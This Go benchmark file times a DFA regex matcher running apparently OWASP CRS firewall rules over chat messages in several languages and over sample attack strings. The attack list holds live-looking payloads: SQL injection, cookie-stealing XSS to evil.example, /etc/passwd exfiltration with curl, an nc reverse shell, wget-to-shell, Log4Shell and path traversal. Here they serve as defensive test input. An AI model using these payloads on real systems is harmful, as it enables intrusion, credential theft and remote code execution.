package dfa

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// chat and attack are texts of some 200 bytes, as users of a chat and attackers write.
var chat = []string{
	"hey, are you coming to the meeting tomorrow? I think Anna wants to talk about the new release, and select a date for the party. Let me know if you can't make it, so that I tell the others before lunch",
	"Да, я видел это вчера, очень смешно! Давай встретимся завтра в пять часов у метро, если не будет дождя :)",
	"J'ai regardé la vidéo hier soir, c'était génial ! On se retrouve à l'arrêt de bus à 18 h, d'accord ? N'oublie pas d'apporter le livre que je t'ai prêté l'été dernier, j'en ai besoin pour l'école.",
	"今天天气很好，我们去公园散步吧。你觉得几点见面比较合适？我下午三点以后都有空，可以在地铁站门口等你 😀",
	"lol 😂😂 that's what I said... anyway, the build is green again (finally!), the tests take 12 min - 3 less than before. Can you have a look at PR #4312 & tell me what you think? thx, see you @ 5pm",
}

var attack = []string{
	"1' UNION ALL SELECT NULL,concat(username,0x3a,password),NULL FROM information_schema.tables WHERE table_schema='public' AND 1=1-- -",
	"<img src=x onerror=\"fetch('https://evil.example/c?'+document.cookie)\"><svg/onload=alert(String.fromCharCode(88,83,83))><script>eval(atob('YWxlcnQoMSk='))</script>",
	"; cat /etc/passwd | curl -d @- http://evil.example/ && /bin/bash -c 'nc -e /bin/sh 10.0.0.1 4444' || wget -q -O- evil.example/x | sh; $(id) `whoami`",
	"${jndi:ldap://evil.example/a} ../../../../../../etc/shadow\x00.png php://filter/convert.base64-encode/resource=index.php",
}

func levels(max string) (out []rule) {
	for _, r := range crs() {
		if r.level != "" && r.level <= max && r.id[0] == '9' && r.id < "950000" && r.id >= "921000" {
			out = append(out, r)
		}
	}
	return
}

// cpu is the CPU time of the process: what a busy machine does not change much.
func cpu() time.Duration {
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		panic(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// measure runs match over the texts for each of n patterns, with all states there
// that they need, and reports its CPU time per pattern and 200 bytes.
func measure(b *testing.B, n int, texts [][]byte, match func(n int, b []byte)) {
	size := 0
	for _, t := range texts {
		size += len(t)
	}
	run := func() {
		for n := range n {
			for _, t := range texts {
				match(n, t)
			}
		}
	}
	run()
	began := cpu()
	for b.Loop() {
		run()
	}
	b.ReportMetric(float64(cpu()-began)/float64(b.N)/float64(n*size)*200, "cpu-ns/pattern/200B")
	b.ReportMetric(0, "ns/op")
}

func BenchmarkRuleSet(b *testing.B) {
	var ms []*Matcher
	for _, r := range levels("1") {
		ms = append(ms, must(b, r.pattern, Options{Flags: "sm"}))
	}
	for _, k := range []struct {
		name  string
		texts []string
	}{{"english", chat[:1]}, {"chat", chat}, {"attack", attack}} {
		var texts [][]byte
		for _, s := range k.texts {
			texts = append(texts, []byte(s))
		}
		b.Run(k.name+"/dfa", func(b *testing.B) {
			b.ReportAllocs()
			measure(b, len(ms), texts, func(n int, t []byte) { ms[n].Match(t) })
		})
		b.Run(k.name+"/regexp", func(b *testing.B) {
			measure(b, len(ms), texts, func(n int, t []byte) { ms[n].Regexp().Match(t) })
		})
	}
}

// BenchmarkCorpus runs the rules of paranoia levels 1 and 2 over the texts of
// WSI_CORPUS, a directory of .jsonl files with a member "text", file after file
// with the same matchers: kB is what they occupy behind it, resets/op how many
// caches were begun anew in a run.
func BenchmarkCorpus(b *testing.B) {
	dir := os.Getenv("WSI_CORPUS")
	if dir == "" {
		b.Skip("WSI_CORPUS is not set to a directory of texts")
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.jsonl"))
	require.NoError(b, err)
	require.NotEmpty(b, files)
	for _, level := range []string{"1", "2"} {
		var ms []*Matcher
		for _, r := range levels(level) {
			ms = append(ms, must(b, r.pattern, Options{Flags: "sm"}))
		}
		occupied := func() float64 {
			size := 0
			for _, m := range ms {
				size += m.prog.size() + m.cached
			}
			return float64(size >> 10)
		}
		b.Logf("level %s: %d patterns, %.0f kB before the first text", level, len(ms), occupied())
		for _, file := range files {
			texts := corpus(b, file, 300)
			name := strings.TrimSuffix(filepath.Base(file), ".jsonl")
			b.Run("PL"+level+"/"+name, func(b *testing.B) {
				began := resets.Load()
				measure(b, len(ms), texts, func(n int, t []byte) { ms[n].Match(t) })
				b.ReportMetric(float64(resets.Load()-began)/float64(b.N+1), "resets/op")
				b.ReportMetric(occupied(), "kB")
			})
		}
	}
}

func corpus(b *testing.B, file string, max int) [][]byte {
	f, err := os.Open(file)
	require.NoError(b, err)
	defer f.Close()
	var all [][]byte
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 16<<20)
	for sc.Scan() {
		var v struct{ Text string }
		require.NoError(b, json.Unmarshal(sc.Bytes(), &v))
		if strings.TrimSpace(v.Text) != "" {
			all = append(all, []byte(v.Text))
		}
	}
	require.NoError(b, sc.Err())
	if len(all) > max {
		step := len(all) / max
		for i := range max {
			all[i] = all[i*step]
		}
		all = all[:max]
	}
	return all
}
